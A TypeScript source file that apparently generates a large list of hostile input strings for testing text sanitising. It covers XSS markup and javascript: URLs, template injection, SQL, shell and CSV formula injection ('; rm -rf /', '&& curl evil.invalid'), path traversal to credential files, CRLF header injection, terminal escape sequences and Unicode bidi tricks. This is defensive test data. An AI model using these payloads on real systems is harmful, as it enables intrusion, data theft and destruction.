// More than five hundred texts that try to be something else than text: markup, scripts, addresses, templates, names of an
// object's own machinery, terminal sequences, directions of writing, and sheer size. Invented here, of the known kinds.

/** Marks the page when it runs, and opens a dialog. */
const RUN = 'top.ran=1,alert(1)';

const HANDLERS = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onbegin', 'onanimationend', 'onpointerenter', 'onbeforeinput'];
const TAGS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'audio src=x',
  'iframe src=x',
  'object data=x',
  'marquee',
  'select autofocus',
  'style',
  'link rel=stylesheet href=x',
  'math',
  'p style=animation:x',
];
const WRAPS: ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</title></style></script>${text}`,
  (text) => `<!--><${text.slice(1)}-->`,
  (text) => text.toUpperCase().replaceAll('TOP.RAN', 'top.ran').replaceAll('ALERT', 'alert'),
];

function markup(): string[] {
  const plain = TAGS.flatMap((tag, at) => HANDLERS.filter((_, of) => (at + of) % 3 === 0).map((handler) => `<${tag} ${handler}=${RUN}>`));
  const whole = [
    `<script>${RUN}</script>`,
    `<script src=//evil.invalid/x.js></script>`,
    `<script type=module>${RUN}</script>`,
    `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
    `<iframe src="javascript:${RUN}"></iframe>`,
    `<a href="javascript:${RUN}">open</a>`,
    `<form action="javascript:${RUN}"><input type=submit></form>`,
    `<object data="data:text/html,<script>${RUN}</script>"></object>`,
    `<embed src="javascript:${RUN}">`,
    `<base href="//evil.invalid/">`,
    `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><animate attributeName=href values="javascript:${RUN}"/></svg>`,
    `<math><mtext></p><style><img src=x onerror=${RUN}></style></math>`,
    `<template><img src=x onerror=${RUN}></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<style>*{display:none!important}</style>`,
    `<style>@import '//evil.invalid/x.css';</style>`,
    `<link rel=stylesheet href="data:text/css,*{display:none}">`,
    `<plaintext>`,
    `<xmp>`,
    `<div style="position:fixed;inset:0;z-index:99999;background:red">`,
    `<button popovertarget=x onclick=${RUN}>`,
    `<dialog open>over everything</dialog>`,
    `<portal src=javascript:${RUN}>`,
    `<img src=x:x onerror="${RUN}" style="width:9999px;height:9999px">`,
  ];
  return [...plain, ...whole].flatMap((text, at) => WRAPS.filter((_, of) => of === 0 || (at + of) % 3 === 0).map((wrap) => wrap(text)));
}

function addresses(): string[] {
  const inner = [RUN, `top.ran=1`, `eval(atob('dG9wLnJhbj0x'))`];
  const schemes = [
    'javascript:',
    'JaVaScRiPt:',
    ' javascript:',
    'java\tscript:',
    'java\nscript:',
    'javascript&colon;',
    '&#106;avascript:',
    'vbscript:',
    'data:text/html,<script>',
    'data:text/html;base64,',
    'blob:',
    'file:///etc/passwd?',
    '//evil.invalid/',
    'https:/\\evil.invalid/',
    'http://user:word@evil.invalid/',
    'view-source:javascript:',
    'javascript://evil.invalid/%0a',
  ];
  return schemes.flatMap((scheme) => inner.map((text) => scheme + text));
}

function encodings(): string[] {
  const text = `<img src=x onerror=${RUN}>`;
  const each = (to: (code: number) => string) => [...text].map((letter) => to(letter.charCodeAt(0))).join('');
  return [
    encodeURIComponent(text),
    encodeURIComponent(encodeURIComponent(text)),
    each((code) => `&#${code};`),
    each((code) => `&#x${code.toString(16)};`),
    each((code) => `\\u${code.toString(16).padStart(4, '0')}`),
    each((code) => `\\x${code.toString(16)}`),
    each((code) => String.fromCodePoint(code + 0xfee0)),
    text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
    text.replaceAll('<', '&amp;lt;'),
    `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
    text.replaceAll('<', '\u00bc').replaceAll('>', '\u00be'),
    [...text].join('\u0000'),
    [...text].join('\u200b'),
    text.replaceAll(' ', '\u000c'),
    text.replaceAll(' ', '/'),
  ];
}

function templates(): string[] {
  const run = [RUN, `constructor.constructor('top.ran=1')()`, `this.constructor.constructor("top.ran=1")()`, `[].filter.constructor('top.ran=1')()`];
  const frames = [
    ['{{', '}}'],
    ['${', '}'],
    ['#{', '}'],
    ['<%=', '%>'],
    ['{@html "', '"}'],
    ['{#if true}', '{/if}'],
    ['[[', ']]'],
    ['{%', '%}'],
    ['`${', '}`'],
    ['{', '}'],
    ['@{', '}'],
    ['$(', ')'],
    ['<?php ', '?>'],
  ];
  return frames.flatMap(([open, close]) => run.map((text) => `${open}${text}${close}`));
}

const MACHINERY = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'then',
  'length',
  '__defineGetter__',
  'isPrototypeOf',
  'NaN',
  'null',
  'undefined',
  'true',
  '-0',
  '1e999',
  '0x10',
  '[object Object]',
  'innerHTML',
  'location',
  'onerror',
  'main',
  'root',
  'style',
  'class',
];

function unicode(): string[] {
  const marks = [
    '\u202e',
    '\u202d',
    '\u2066',
    '\u2067',
    '\u2069',
    '\u200e',
    '\u200f',
    '\u200b',
    '\u200d',
    '\u2060',
    '\ufeff',
    '\u00ad',
    '\u034f',
    '\u115f',
    '\u180e',
    '\u2028',
    '\u2029',
    '\u0085',
    '\u3164',
    '\ufffc',
    '\ufff9',
    '\u{e0041}',
    '\u{1d173}',
  ];
  return [
    ...marks.flatMap((mark) => [`begin ${mark}gnp.exe end`, mark.repeat(50) + 'x', mark]),
    'e' + '\u0301'.repeat(400),
    'Z\u0351\u036b\u0343\u032a\u0302\u036b\u033d\u034f\u0334\u0319\u0324'.repeat(60),
    '👩‍👩‍👧‍👦'.repeat(300),
    '🏴󠁧󠁢󠁥󠁮󠁧󠁿'.repeat(50),
    'مرحبا بالعالم'.repeat(40),
    'שלום עולם <b>'.repeat(20),
    '漢字'.repeat(800),
    'ﷺ'.repeat(400),
    '𒐫'.repeat(300),
    '꧅'.repeat(200),
    '\ud83d lone',
    'lone \udc00',
    'ｆｕｌｌ　ｗｉｄｔｈ'.repeat(80),
    'ßẞıİ'.repeat(100),
  ];
}

function terminal(): string[] {
  const controls = Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).concat(
    Array.from({ length: 32 }, (_, code) => String.fromCharCode(0x80 + code)),
    '\u007f',
  );
  return [
    ...controls.map((control) => `before${control}after`),
    '\u001b[2J\u001b[H',
    '\u001b[31mred\u001b[0m',
    '\u001b]0;title\u0007',
    '\u001b]8;;javascript:top.ran=1\u0007link\u001b]8;;\u0007',
    '\u001b]52;c;dG9wLnJhbj0x\u0007',
    '\u001b[?1049h',
    '\u001bPq#0;2;0;0;0\u001b\\',
    '\u009b2J',
    '\r\nSet-Cookie: a=b',
    '%0d%0aLocation:%20//evil.invalid',
    'line one\nline two\rline three',
    '\t'.repeat(300),
    '\b'.repeat(300),
  ];
}

function sizes(): string[] {
  return [
    'W'.repeat(10_000),
    'i'.repeat(10_000),
    `${'word '.repeat(2_000)}`,
    '-'.repeat(5_000),
    '/'.repeat(5_000),
    `${'a/'.repeat(2_500)}x.ts`,
    '\u00a0'.repeat(5_000),
    '&nbsp;'.repeat(1_000),
    '<b>'.repeat(1_500),
    `${'('.repeat(2_000)}${')'.repeat(2_000)}`,
    '9'.repeat(4_000),
    `${'very-long-name-'.repeat(300)}`,
    '|'.repeat(3_000),
    '😀'.repeat(2_000),
    '',
    ' ',
    '.',
    '..',
    '"',
    "'",
    '\\',
    '<',
    '>',
    '&',
    ';',
    '`',
  ];
}

function paths(): string[] {
  return [
    '../../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '/etc/shadow',
    '%2e%2e%2fetc%2fpasswd',
    '....//....//etc/passwd',
    'C:\\boot.ini',
    '\\\\evil.invalid\\share',
    'file:///etc/passwd',
    '/proc/self/environ',
    'con',
    'nul.txt',
    'a\u0000.png',
    '~/.ssh/id_rsa',
    '=HYPERLINK("//evil.invalid")',
    '@SUM(1+1)*cmd|x',
    "'; DROP TABLE sessions; --",
    '" OR 1=1 --',
    '$(reboot)',
    '`reboot`',
    '; rm -rf /',
    '| cat /etc/passwd',
    '&& curl evil.invalid',
    '{"type":"snapshot"}',
    '</script><script>top.ran=1</script>',
    ']]><script>top.ran=1</script>',
    '*{color:red}',
    'url(javascript:top.ran=1)',
    'expression(top.ran=1)',
    '@import url(//evil.invalid)',
    '#main',
    '?token=x',
    '%',
    '%00',
    '%s%n%x',
  ];
}

export const HOSTILE: readonly string[] = [
  ...new Set([...markup(), ...addresses(), ...encodings(), ...templates(), ...MACHINERY, ...unicode(), ...terminal(), ...sizes(), ...paths()]),
];

/** Whether a text comes through cleaning as it is, so that a page has to show it letter by letter: no control, no secret. */
export function isPlain(text: string): boolean {
  return /^[\x21-\x7e]+( [\x21-\x7e]+)*$/.test(text) && text.length <= 120 && !text.includes('user:word@');
}
